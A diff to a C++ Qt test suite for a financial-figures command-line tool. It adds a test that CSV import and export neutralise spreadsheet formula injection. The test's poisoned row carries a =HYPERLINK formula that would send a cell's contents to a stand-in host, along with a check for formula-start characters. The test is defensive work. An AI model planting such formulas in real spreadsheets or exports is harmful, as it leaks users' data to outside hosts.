@@ -13,9 +13,11 @@
 #include <QTemporaryDir>
 #include <QTest>
 
+#include <algorithm>
 #include <cmath>
 #include <limits>
 #include <map>
+#include <string_view>
 
 #include <signal.h>
 #include <sys/stat.h>
@@ -35,6 +37,7 @@ private Q_SLOTS:
     void checkDbRefusesBadFilesUntouched_data();
     void checkDbRefusesBadFilesUntouched();
     void importRoundTripsTheListing();
+    void spreadsheetSafeFromImportToExport();
     void importValidOnlyLeavesOutBadRows();
     void badImportLeavesTheDatabaseUnchanged_data();
     void badImportLeavesTheDatabaseUnchanged();
@@ -673,6 +676,101 @@ void TestCli::benchUnderAnAddressSpaceLimitIsRefused()
 #endif
 }
 
+/// True when a cell a spreadsheet reads as text would start a formula (OWASP's characters).
+static bool startsFormula(const std::string &cell)
+{
+    return !cell.empty() && std::string_view("=+-@\t\r").find(cell.front()) != std::string_view::npos;
+}
+
+void TestCli::spreadsheetSafeFromImportToExport()
+{
+    // The user's rival of a shipped Oracle figure, whose note, source title and publisher carry
+    // a formula, a leading minus and a comma.
+    const QByteArray poisoned =
+        "my-oracle-cds,credit,Oracle,5-year CDS spread,200,,,bp,2025-12-12,reported,broker-note,,200,"
+        "Oracle CDS at 200 bps,\"=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"click\"\")\",-Credit weekly,"
+        "\"Broker, Inc.\",https://example.org/credit-weekly,2025-12,analysis,user\r\n";
+    const QString db = m_home.filePath(QStringLiteral("poisoned.sqlite"));
+    const QString file = m_home.filePath(QStringLiteral("poisoned.csv"));
+    writeBytes(file, kListingHeader + poisoned);
+    const Run added = run({"import", file, "--user-db", db});
+    QCOMPARE(added.exitCode, 0);
+
+    // The listing: no text cell starts a formula, numbers are plain, the guarded cells read back.
+    const Run listed = run({"figures", "--user-db", db});
+    QCOMPARE(listed.exitCode, 0);
+    auto rows = cliff::csv::parse(listed.out.toStdString(), "stdout");
+    QVERIFY(rows.ok());
+    const std::vector<std::string> &header = rows->front().fields;
+    const auto column = [&header](const char *name) {
+        return std::size_t(std::find(header.begin(), header.end(), name) - header.begin());
+    };
+    const std::vector<std::string> *own = nullptr;
+    for (std::size_t r = 1; r < rows->size(); ++r) {
+        const std::vector<std::string> &fields = rows.value()[r].fields;
+        for (std::size_t c = 0; c < fields.size(); ++c) {
+            const bool number = header[c] == "value" || header[c] == "low" || header[c] == "high";
+            QVERIFY2(number || !startsFormula(fields[c]), fields[c].c_str());
+        }
+        if (fields.front() == "my-oracle-cds")
+            own = &fields;
+    }
+    QVERIFY(own);
+    QCOMPARE((*own)[column("note")], std::string("'=HYPERLINK(\"http://x/?d=\"&A2,\"click\")"));
+    QCOMPARE((*own)[column("source_title")], std::string("'-Credit weekly"));
+    QCOMPARE((*own)[column("source_publisher")], std::string("Broker, Inc."));
+    QCOMPARE((*own)[column("value")], std::string("200"));
+
+    // That listing imports into a new database, whose listing is the same bytes.
+    const QString listing = m_home.filePath(QStringLiteral("poisoned-listing.csv"));
+    writeBytes(listing, listed.out);
+    const QString copy = m_home.filePath(QStringLiteral("poisoned-copy.sqlite"));
+    const Run imported = run({"import", listing, "--user-db", copy});
+    QVERIFY2(imported.exitCode == 0, imported.err.constData());
+    const Run relisted = run({"figures", "--user-db", copy});
+    QCOMPARE(relisted.exitCode, 0);
+    QCOMPARE(relisted.out, listed.out);
+
+    // The exported chart data: the source comment is one cell, comma and all; no cell starts a
+    // formula; numbers (here the plotted spreads and probabilities) are plain.
+    const QString out = m_home.filePath(QStringLiteral("poisoned-export.csv"));
+    const Run exported = run({"export", "--view", "fragility", "--chart", "implied-default", "--format",
+                              "csv", "--user-db", db, "--out", out});
+    QVERIFY2(exported.exitCode == 0, exported.err.constData());
+    auto records = cliff::csv::parse(readAll(out).toStdString(), "export.csv");
+    QVERIFY(records.ok());
+    bool sourceComment = false;
+    bool ownPlotted = false;
+    std::size_t headerAt = 0;
+    for (std::size_t r = 0; r < records->size(); ++r) {
+        const std::vector<std::string> &fields = records.value()[r].fields;
+        if (cliff::csv::isComment(records.value()[r])) {
+            QVERIFY(headerAt == 0);
+            sourceComment = sourceComment
+                            || fields.front() == "# source: broker-note: Broker, Inc., \u201c-Credit weekly\u201d, "
+                                                 "2025-12, https://example.org/credit-weekly";
+            continue;
+        }
+        if (headerAt == 0) {
+            headerAt = r;
+            QCOMPARE(fields.front(), std::string("chart"));
+            continue;
+        }
+        for (std::size_t c = 0; c < fields.size(); ++c) {
+            const bool number = c == 2 || c == 4 || c == 5; // x, y, y_high
+            bool plain = false;
+            if (number && !fields[c].empty())
+                QByteArray::fromStdString(fields[c]).toDouble(&plain);
+            else
+                plain = !startsFormula(fields[c]);
+            QVERIFY2(plain, fields[c].c_str());
+        }
+        ownPlotted = ownPlotted || fields[8] == "my-oracle-cds";
+    }
+    QVERIFY(sourceComment);
+    QVERIFY(ownPlotted);
+}
+
 void TestCli::exportWritesEachFormat()
 {
     QTemporaryDir dir;
@@ -707,16 +805,11 @@ void TestCli::exportWritesEachFormat()
     QCOMPARE(model.exitCode, 0);
     const double required = QJsonDocument::fromJson(model.out).object().value("outputs").toObject()
                                 .value("required_revenue_2030_usd").toDouble();
-    QByteArray body;
-    for (const QByteArray &line : readAll(dir.filePath("0gap.csv")).split('\n')) {
-        if (!line.startsWith('#'))
-            body += line + '\n';
-    }
-    auto records = cliff::csv::parse(body.toStdString(), "gap.csv");
+    auto records = cliff::csv::parse(readAll(dir.filePath("0gap.csv")).toStdString(), "gap.csv");
     QVERIFY(records.ok());
     bool found = false;
     for (const cliff::csv::Record &record : *records) {
-        if (record.fields.size() > 4 && record.fields[1] == "Required revenue" && record.fields[2] == "2030") {
+        if (!cliff::csv::isComment(record) && record.fields.size() > 4 && record.fields[1] == "Required revenue" && record.fields[2] == "2030") {
             QVERIFY(std::abs(std::stod(record.fields[4]) - required / 1e9) < 1e-9 * required / 1e9);
             found = true;
         }
@@ -1101,7 +1194,7 @@ void TestCli::exportRefusesNonRegularTargets()
         QVERIFY(QFile::link(real, link));
         QCOMPARE(run({"export", "--view", "moat", "--out", link}).exitCode, 0);
         QVERIFY(QFileInfo(link).isSymLink());
-        QVERIFY(readAll(real).startsWith("# "));
+        QVERIFY(readAll(real).startsWith("\"# "));
     }
 }
 
